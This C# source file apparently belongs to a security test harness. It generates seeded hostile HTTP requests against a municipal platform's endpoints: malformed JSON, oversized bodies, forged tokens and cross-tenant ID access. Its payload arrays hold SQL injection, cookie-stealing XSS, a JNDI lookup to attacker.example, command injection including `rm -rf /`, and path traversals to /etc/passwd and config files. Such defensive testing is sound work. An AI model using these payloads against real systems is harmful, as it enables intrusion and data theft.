using System.Text;
using System.Text.Json.Nodes;

namespace Platform.Proof.Hostile;

/// <summary>The real things a run aims at: Kari's (Fjordby) and Anna's (Skogsberg) submission and case, and Kari's token to forge from.</summary>
public sealed record Scene(Guid KarisSubmission, Guid KarisCase, Guid AnnasSubmission, Guid AnnasCase, string KarisToken);

/// <summary>
/// Makes the run's bad requests from the <see cref="PublicEndpoints"/> catalogue. Request <c>n</c> goes to endpoint
/// <c>n mod count</c>, so every endpoint is hit again and again, each round with another kind of bad input that suits
/// it; the variant within a kind comes from a seeded <see cref="Random"/>, so the same seed makes the same requests
/// and any failure can be sent again.
/// </summary>
public sealed class BadRequests(Scene scene, int seed = 10)
{
    /// <summary>Kestrel's default limit on a request body is 30,000,000 bytes; this is past it.</summary>
    public const int PastKestrelsLimit = 31_000_000;

    /// <summary>Past forms' limit on a submission (256 KiB) and any text field's sensible length.</summary>
    public const int Large = 1_000_000;

    public const int Depth = 10_000;

    public static readonly string[] Injections =
    [
        "' OR '1'='1", "'; DROP TABLE Cases;--", "1 UNION SELECT password FROM Users--", "\" OR \"\"=\"", "fjordby' --",
        "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
        "{{7*7}}", "${jndi:ldap://attacker.example/a}", "%00", "\u0000", "a\r\nSet-Cookie: session=stolen", "$where: '1 == 1'",
        "{\"$gt\":\"\"}", "../../../../etc/passwd", "*)(uid=*))(|(uid=*", "; cat /etc/passwd", "`rm -rf /`",
    ];

    public static readonly string[] Traversals =
    [
        "../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fappsettings.json", "..%5C..%5Cweb.config",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "....//....//etc/passwd", "..;/..;/appsettings.json", "%c0%ae%c0%ae%2fetc%2fpasswd",
        "..%00/etc/passwd", "%2e%2e/%2e%2e/Platform.Identity.dll",
    ];

    private static readonly string[] MalformedJson =
    [
        "{", "}", "{\"data\":", "{\"a\":1,}", "{'single':'quotes'}", "[1,2", "nul", "{\"a\":NaN}", "{\"a\":01}", "{\"a\":\"\\u00\"}",
        "{\"a\":1} trailing", "/* comment */ {}", "\uFEFF", "", "\"\\\"", "{\"a\":1}{\"a\":2}", "{\"a\" 1}", "{a:1}", "[}", "{\"a\":\"\u0001\"}",
        "{\"a\":Infinity}", "{\"a\":-}", "{\"a\":1e}", "{\"__proto__\":{\"admin\":true},",
    ];

    private static readonly byte[][] InvalidUtf8 =
    [
        [0xC3, 0x28], [0xFF, 0xFE, 0xFD], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xE2, 0x82],
    ];

    private readonly Random _random = new(seed);

    public IEnumerable<HostileRequest> Take(int count)
    {
        var endpoints = PublicEndpoints.All;
        for (var n = 0; n < count; n++)
        {
            var endpoint = endpoints[n % endpoints.Count];
            var suitable = Enum.GetValues<Category>().Where(category => Suits(category, endpoint)).ToArray();
            // Each round through the catalogue moves every endpoint on to its next kind of bad input.
            var category = suitable[(n / endpoints.Count + n) % suitable.Length];
            yield return Make(n + 1, category, endpoint);
        }
    }

    private static bool Suits(Category category, PublicEndpoint endpoint) => category switch
    {
        Category.MalformedJson or Category.TruncatedJson or Category.WrongTypes or Category.DeepNesting or Category.InvalidUtf8 => endpoint.HasBody,
        Category.MissingToken => endpoint.Caller != Caller.Nobody,
        _ => true,
    };

    private HostileRequest Make(int number, Category category, PublicEndpoint endpoint) => category switch
    {
        Category.MalformedJson => WithBody(number, category, endpoint, "malformed", Encoding.UTF8.GetBytes(Pick(MalformedJson))),
        Category.TruncatedJson => WithBody(number, category, endpoint, "truncated", Truncated(endpoint.Body!)),
        Category.WrongTypes => WrongTypes(number, endpoint),
        Category.HugeBody => Huge(number, endpoint),
        Category.DeepNesting => Deep(number, endpoint),
        Category.InvalidUtf8 => BadUtf8(number, endpoint),
        Category.Injection => Injection(number, endpoint),
        Category.PathTraversal => Traversal(number, endpoint),
        Category.ForgedToken => Forged(number, endpoint),
        Category.MissingToken => Request(number, category, endpoint, "no-authorization-header", Resolve(endpoint.Path), endpoint.Body) with
        {
            Credential = Credential.Missing,
            MustBeRefused = endpoint.Method != "GET",
        },
        Category.OtherTenantsIds => OtherTenants(number, endpoint),
        _ => throw new ArgumentOutOfRangeException(nameof(category)),
    };

    private byte[] Truncated(string body)
    {
        var bytes = Encoding.UTF8.GetBytes(body);
        return bytes[..Math.Max(1, _random.Next(bytes.Length - 1))];
    }

    /// <summary>Each field of the body given a value of another JSON type than the one it has.</summary>
    private HostileRequest WrongTypes(int number, PublicEndpoint endpoint)
    {
        if (endpoint.Kind == BodyKind.Form)
        {
            var wrong = Pick(["[]", "{}", "1e999", "-1", "true", "null", "99999999999999999999"]);
            return WithBody(number, Category.WrongTypes, endpoint, $"every-value-{wrong}", Encoding.UTF8.GetBytes(Slots(endpoint, Uri.EscapeDataString(wrong))));
        }

        var body = JsonNode.Parse(endpoint.Body!)!.AsObject();
        foreach (var (name, value) in body.ToList())
        {
            body[name] = Another(value);
        }

        return WithBody(number, Category.WrongTypes, endpoint, "every-field", Encoding.UTF8.GetBytes(body.ToJsonString()));
    }

    private JsonNode? Another(JsonNode? value)
    {
        var kind = value?.GetValueKind();
        JsonNode?[] choices = kind switch
        {
            System.Text.Json.JsonValueKind.String => [12345, true, new JsonArray("a"), new JsonObject { ["a"] = 1 }],
            System.Text.Json.JsonValueKind.Number => ["five", true, new JsonArray(1), JsonValue.Create(decimal.MaxValue)],
            System.Text.Json.JsonValueKind.Array => ["list", 7, new JsonObject { ["0"] = "a" }],
            System.Text.Json.JsonValueKind.Object => ["object", 3.14, new JsonArray(1, 2, 3), false],
            System.Text.Json.JsonValueKind.True or System.Text.Json.JsonValueKind.False => ["yes", 1, new JsonArray()],
            _ => [new JsonArray(new JsonArray()), "null"],
        };
        return choices[_random.Next(choices.Length)];
    }

    private HostileRequest Huge(int number, PublicEndpoint endpoint)
    {
        if (!endpoint.HasBody)
        {
            // No body to make large: the request line instead, past Kestrel's 8 KB limit on it.
            var length = _random.Next(9_000, 100_000);
            return Request(number, Category.HugeBody, endpoint, $"query-of-{length}-characters",
                Resolve(endpoint.Path) + Separator(endpoint.Path) + "q=" + new string('x', length), null);
        }

        var past = _random.Next(6) == 0;
        var size = past ? PastKestrelsLimit : Large;
        var filler = new string('x', size);
        return WithBody(number, Category.HugeBody, endpoint, past ? "past-kestrels-limit" : "1-MB-fields", Encoding.UTF8.GetBytes(Slots(endpoint, filler)));
    }

    private HostileRequest Deep(int number, PublicEndpoint endpoint)
    {
        if (endpoint.Kind == BodyKind.Form)
        {
            return WithBody(number, Category.DeepNesting, endpoint, "bracketed-keys",
                Encoding.UTF8.GetBytes("a" + string.Concat(Enumerable.Repeat("[a]", Depth)) + "=1"));
        }

        var arrays = _random.Next(2) == 0;
        var open = arrays ? "[" : "{\"a\":";
        var close = arrays ? "]" : "}";
        var nested = string.Concat(Enumerable.Repeat(open, Depth)) + "1" + string.Concat(Enumerable.Repeat(close, Depth));
        var field = JsonNode.Parse(endpoint.Body!)!.AsObject().First().Key;
        return WithBody(number, Category.DeepNesting, endpoint, arrays ? "10000-arrays" : "10000-objects",
            Encoding.UTF8.GetBytes($"{{\"{field}\":{nested}}}"));
    }

    /// <summary>Invalid UTF-8 bytes inside a string value of an otherwise well-formed body.</summary>
    private HostileRequest BadUtf8(int number, PublicEndpoint endpoint)
    {
        var bad = InvalidUtf8[_random.Next(InvalidUtf8.Length)];
        var text = Slots(endpoint, "BAD");
        var at = text.IndexOf("BAD", StringComparison.Ordinal);
        var bytes = Encoding.UTF8.GetBytes(text[..at]).Concat(bad).Concat(Encoding.UTF8.GetBytes(text[(at + 3)..])).ToArray();
        return WithBody(number, Category.InvalidUtf8, endpoint, Convert.ToHexString(bad), bytes);
    }

    /// <summary>
    /// An injection string in a path segment, a query value or the fields the platform must refuse it in. A write
    /// always carries the refused body, so even a path that resolves cannot store the string.
    /// </summary>
    private HostileRequest Injection(int number, PublicEndpoint endpoint)
    {
        var injection = Pick(Injections);
        var where = _random.Next(3);
        var path = Resolve(endpoint.Path);
        var variant = "body";
        if (where == 0 || !endpoint.HasBody)
        {
            (path, variant) = _random.Next(2) == 0 && Segments(endpoint.Path).Any()
                ? (ReplaceSegment(endpoint.Path, Uri.EscapeDataString(injection)), "path")
                : (path + Separator(path) + "q=" + Uri.EscapeDataString(injection) + "&limit=" + Uri.EscapeDataString(injection), "query");
        }

        var body = endpoint.HasBody ? Slots(endpoint, Escaped(endpoint, injection)) : null;
        return Request(number, Category.Injection, endpoint, variant, path, body);
    }

    private HostileRequest Traversal(int number, PublicEndpoint endpoint)
    {
        var traversal = Pick(Traversals);
        var path = Segments(endpoint.Path).Any()
            ? ReplaceSegment(endpoint.Path, traversal)
            : Resolve(endpoint.Path).Split('?')[0].TrimEnd('/') + "/" + traversal;
        return Request(number, Category.PathTraversal, endpoint, "segment", path, endpoint.HasBody ? Slots(endpoint, "x") : null);
    }

    private HostileRequest Forged(int number, PublicEndpoint endpoint)
    {
        var variant = Pick(ForgedTokens.Variants);
        return Request(number, Category.ForgedToken, endpoint, variant, Resolve(endpoint.Path), endpoint.Body) with
        {
            Credential = Credential.Forged,
            Authorization = ForgedTokens.Make(variant, scene.KarisToken),
            MustBeRefused = endpoint.Method != "GET" && endpoint.Caller != Caller.Nobody,
        };
    }

    /// <summary>
    /// Someone else's things: another municipality in the path, another party's case or submission in place of one's
    /// own, or another caller using one's ids. Aimed at a real case or submission, the valid body goes along, so that
    /// anything let through would show; otherwise the refused body does.
    /// </summary>
    private HostileRequest OtherTenants(int number, PublicEndpoint endpoint)
    {
        var aimsAtThings = endpoint.Path.Contains("{case}") || endpoint.Path.Contains("{submission}") || endpoint.Path.Contains("{unknown}");
        var variant = aimsAtThings ? _random.Next(3) : _random.Next(2) * 2;
        var body = endpoint.HasBody ? (aimsAtThings ? endpoint.Body : Slots(endpoint, "x")) : null;
        Guid[] annas = [scene.AnnasCase, scene.AnnasSubmission];
        Guid[] karis = [scene.KarisCase, scene.KarisSubmission];
        return variant switch
        {
            0 when endpoint.Path.Contains("{tenant}") => Request(number, Category.OtherTenantsIds, endpoint, "skogsberg-in-path",
                Resolve(endpoint.Path, tenant: "skogsberg", ofAnna: true), body) with { MustBeRefused = aimsAtThings, OthersIds = annas },
            1 => Request(number, Category.OtherTenantsIds, endpoint, "annas-ids", Resolve(endpoint.Path, ofAnna: true), body) with
            {
                MustBeRefused = true,
                OthersIds = annas,
            },
            _ => Request(number, Category.OtherTenantsIds, endpoint, $"as-{Stranger(endpoint.Caller)}", Resolve(endpoint.Path, unknownIsKaris: true), body) with
            {
                Caller = Stranger(endpoint.Caller),
                MustBeRefused = aimsAtThings && endpoint.Caller != Caller.Nobody,
                OthersIds = karis,
            },
        };
    }

    /// <summary>Someone who must not do what <paramref name="caller"/> may: a neighbour, a colleague in another municipality, a lesser role.</summary>
    private static Caller Stranger(Caller caller) => caller switch
    {
        Caller.Kari => Caller.Ola,
        Caller.Ingrid or Caller.Dag => Caller.Lars,
        Caller.FjordbyAdmin => Caller.SkogsbergAdmin,
        Caller.Root => Caller.FjordbyAdmin,
        Caller.Nordbank => Caller.Kari,
        _ => Caller.Anna,
    };

    private HostileRequest WithBody(int number, Category category, PublicEndpoint endpoint, string variant, byte[] body) =>
        new(number, category, endpoint, variant, endpoint.Method, Resolve(endpoint.Path), endpoint.Caller, Body: body, ContentType: ContentTypeOf(endpoint));

    private HostileRequest Request(int number, Category category, PublicEndpoint endpoint, string variant, string path, string? body) =>
        new(number, category, endpoint, variant, endpoint.Method, path, endpoint.Caller,
            Body: body is null ? null : Encoding.UTF8.GetBytes(body), ContentType: body is null ? null : ContentTypeOf(endpoint));

    private static string ContentTypeOf(PublicEndpoint endpoint) => endpoint.Kind == BodyKind.Form ? "application/x-www-form-urlencoded" : "application/json";

    /// <summary>The endpoint's refused body with <paramref name="value"/> at every slot.</summary>
    private static string Slots(PublicEndpoint endpoint, string value) => endpoint.Refused!.Replace("§", value);

    private static string Escaped(PublicEndpoint endpoint, string value) =>
        endpoint.Kind == BodyKind.Form ? Uri.EscapeDataString(value) : System.Text.Json.JsonEncodedText.Encode(value).ToString();

    private static IEnumerable<string> Segments(string path) =>
        path.Split('?')[0].Split('/').Where(s => s.StartsWith('{'));

    /// <summary>The path with one of its placeholders (chosen by the seed) replaced by <paramref name="raw"/>, the others resolved.</summary>
    private string ReplaceSegment(string path, string raw)
    {
        var placeholders = Segments(path).Distinct().ToArray();
        var chosen = placeholders[_random.Next(placeholders.Length)];
        var at = path.IndexOf(chosen, StringComparison.Ordinal);
        return Resolve(path[..at]) + raw + Resolve(path[(at + chosen.Length)..]);
    }

    private string Resolve(string path, string tenant = "fjordby", bool ofAnna = false, bool unknownIsKaris = false)
    {
        var resolved = path
            .Replace("{tenant}", tenant)
            .Replace("{case}", (ofAnna ? scene.AnnasCase : scene.KarisCase).ToString())
            .Replace("{submission}", (ofAnna ? scene.AnnasSubmission : scene.KarisSubmission).ToString());
        while (resolved.Contains("{unknown}"))
        {
            var id = ofAnna ? scene.AnnasCase : unknownIsKaris ? scene.KarisCase : NewId();
            var at = resolved.IndexOf("{unknown}", StringComparison.Ordinal);
            resolved = resolved[..at] + id + resolved[(at + "{unknown}".Length)..];
        }

        return resolved;
    }

    private Guid NewId()
    {
        var bytes = new byte[16];
        _random.NextBytes(bytes);
        return new Guid(bytes);
    }

    private static string Separator(string path) => path.Contains('?') ? "&" : "?";

    private T Pick<T>(IReadOnlyList<T> choices) => choices[_random.Next(choices.Count)];
}
